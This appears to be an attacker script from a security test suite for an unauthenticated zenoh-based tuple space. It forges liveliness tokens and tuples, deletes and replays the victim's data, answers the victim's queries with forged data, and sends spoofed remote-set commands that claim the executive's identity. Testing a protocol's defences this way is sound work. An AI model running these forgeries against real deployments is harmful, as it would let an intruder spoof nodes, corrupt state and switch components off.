#!/usr/bin/env python3
"""An attacker on an Ecology tuple space, written with the stock `eclipse-zenoh` package only.

It tries, many times each, every forgery found against the unauthenticated tuple space, with
whatever credentials it is given (none, or a certificate of its own name):

- token:   liveliness tokens under the victim's name and under made-up PEIS, declared first and held;
- put:     tuples under the victim's name, with a sequence number and epoch of 2^64-1;
- delete:  deletes of the victim's tuples;
- replay:  the victim's own samples, captured by subscribing, published again as they were;
- reply:   a queryable on the victim's subtree answering every get with forged tuples;
- set:     remote sets of the victim's keys (switching a component off, new params, fault tuples),
           unnamed, naming the executive as their requester, and with dots inside one chunk.

It declares its tokens, prints `tokens` and waits for `go` on standard input (the test starts
the victim in between), waits to be linked to --peers PEIS, then attacks. It prints one JSON line with what it tried and what was accepted *as far as it can tell*
("set_accepted": remote sets answered with success; "queries_answered": gets it was asked),
then `attacking` and keeps its tokens and queryable until standard input closes or --hold runs out.
What counts is what the victims accepted; the test that runs this checks that on their side.

Usage: attacker.py --connect ENDPOINT --victim PEIS [--tries N] [--ca F --cert F --key F]
"""

import argparse
import json
import struct
import sys
import threading
import time

import zenoh

FORGED = "FORGED"
MAX = (1 << 64) - 1


def meta(seq, epoch, mimetype="text/plain"):
    """The tuple metadata attachment (docs/tuples.md): version 1, flags, seq, ts_write, epoch, mimetype."""
    mime = mimetype.encode("ascii")
    return struct.pack("<BBQQQ", 1, 8, seq, time.time_ns(), epoch) + bytes([len(mime)]) + mime


def stamped(creator, mimetype="text/plain"):
    """A remote-set request's metadata whose creator stamp (flag bit 4) names `creator`."""
    mime, name = mimetype.encode("ascii"), creator.encode("ascii")
    return (struct.pack("<BBQQ", 1, 16, 0, time.time_ns()) + bytes([len(mime)]) + mime
            + bytes([len(name)]) + name)


def session(args):
    conf = zenoh.Config()
    conf.insert_json5("connect/endpoints", json.dumps(args.connect))
    conf.insert_json5("scouting/multicast/enabled", "false")
    conf.insert_json5("connect/timeout_ms", "3000")
    conf.insert_json5("connect/exit_on_failure", "true")
    if args.cert:
        tls = "transport/link/tls/"
        conf.insert_json5(tls + "root_ca_certificate", json.dumps(args.ca))
        conf.insert_json5(tls + "connect_certificate", json.dumps(args.cert))
        conf.insert_json5(tls + "connect_private_key", json.dumps(args.key))
        conf.insert_json5(tls + "verify_name_on_connect", "false")
        conf.insert_json5(tls + "enable_mtls", "true")
    return zenoh.open(conf)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--connect", action="append", required=True)
    parser.add_argument("--victim", required=True)
    parser.add_argument("--tries", type=int, default=1000)
    parser.add_argument("--ca")
    parser.add_argument("--cert")
    parser.add_argument("--key")
    parser.add_argument("--name", default="mallory", help="the name in our certificate")
    parser.add_argument("--hold", type=float, default=600.0)
    parser.add_argument("--peers", type=int, default=1, help="wait to be linked to this many")
    args = parser.parse_args()
    victim = args.victim
    report = {"tries": args.tries}
    try:
        s = session(args)
    except Exception as e:  # noqa: BLE001 - any failure to join is the outcome being measured
        print(json.dumps({"joined": False, "error": str(e)[:300]}), flush=True)
        return
    report["joined"] = True

    # The victim's token, and one for each of --tries made-up PEIS.
    tokens = [s.liveliness().declare_token(f"peis/{victim}/@alive")]
    tokens += [s.liveliness().declare_token(f"peis/ghost-{i}/@alive") for i in range(args.tries)]
    report["tokens"] = len(tokens)
    # The test starts the victim now: its tokens are already out there.
    print("tokens", flush=True)
    if sys.stdin.readline().strip() != "go":
        return
    deadline = time.time() + 10.0
    while time.time() < deadline and len(list(s.info.peers_zid())) < args.peers:
        time.sleep(0.05)
    report["linked_peers"] = len(list(s.info.peers_zid()))

    asked = []
    lock = threading.Lock()

    def answer(query):
        with lock:
            asked.append(str(query.key_expr))
        query.reply(f"peis/{victim}/ca1/status", FORGED, attachment=meta(MAX, MAX))

    queryable = s.declare_queryable(f"peis/{victim}/**", answer)

    captured = []

    def capture(sample):
        if sample.attachment is not None and len(captured) < 64:
            with lock:
                captured.append((str(sample.key_expr), sample.payload.to_bytes(),
                                 sample.attachment.to_bytes()))

    subscriber = s.declare_subscriber(f"peis/{victim}/**", capture)

    n = args.tries
    for i in range(n):
        s.put(f"peis/{victim}/ca1/status", f"{FORGED} {i}", attachment=meta(MAX, MAX))
        s.put(f"peis/{victim}/components/ca1/cost", FORGED, attachment=meta(MAX - i, MAX))
    report["puts"] = 2 * n
    for i in range(n):
        s.delete(f"peis/{victim}/components/ca1/type", attachment=meta(MAX, MAX))
    report["deletes"] = n

    # Wait a little for real samples to capture, then publish them again, unchanged.
    deadline = time.time() + 3.0
    while time.time() < deadline and not captured:
        time.sleep(0.05)
    replays = 0
    with lock:
        samples = list(captured)
    report["captured"] = len(samples)
    if samples:
        for i in range(n):
            key, payload, attachment = samples[i % len(samples)]
            s.put(key, payload, attachment=attachment)
            replays += 1
    report["replays"] = replays

    accepted = 0
    request = meta(0, 0)
    # Unnamed (the open mode's form), and naming the executive as the requester (a forged claim).
    # Unnamed (the open mode's form), naming the executive as the requester (a forged claim), and
    # in our own name, where we may be granted a key, with a creator stamp naming the executive.
    keys = ["@set/components/ca1/reqState", "@set/ca1/params", "@set/ca1/fault",
            "@set/tr1/mi-image", "@by/executive/components/ca1/reqState",
            "@by/executive/ca1/params", f"@by/{args.name}/ca1/fault",
            "@set/components/ca1.reqState", "@by/executive/ca1.fault/params"]
    values = ["off", "(cameras hsm ca1)", "stall", "(meta mallory x)", "off", "(cameras hsm x)",
              "stall", "off", "(cameras hsm x)"]
    forged_stamp = stamped("executive")
    sent = 0
    for batch in range(0, n, 100):
        pending = []
        for i in range(batch, min(n, batch + 100)):
            k = i % len(keys)
            attachment = forged_stamp if keys[k] == f"@by/{args.name}/ca1/fault" else request
            pending.append(s.get(f"peis/{victim}/{keys[k]}", payload=values[k],
                                 attachment=attachment, timeout=1.0))
            sent += 1
        for replies in pending:
            for reply in replies:
                if reply.ok is not None:
                    accepted += 1
    report["sets"] = sent
    report["set_accepted"] = accepted
    with lock:
        report["queries_answered"] = len(asked)
    print(json.dumps(report), flush=True)
    print("attacking", flush=True)

    # Hold the tokens and the queryable, and keep forging, until told to stop.
    stop = threading.Event()
    threading.Thread(target=lambda: (sys.stdin.read(), stop.set()), daemon=True).start()
    end = time.time() + args.hold
    i = 0
    while not stop.is_set() and time.time() < end:
        s.put(f"peis/{victim}/ca1/status", f"error", attachment=meta(MAX, MAX))
        s.put(f"peis/{victim}/tr1/status", f"error", attachment=meta(MAX, MAX))
        s.get(f"peis/{victim}/@set/components/ca1/reqState", payload="off",
              attachment=request, timeout=0.5)
        i += 1
        stop.wait(0.02)
    subscriber.undeclare()
    queryable.undeclare()
    for token in tokens:
        token.undeclare()
    s.close()


if __name__ == "__main__":
    main()
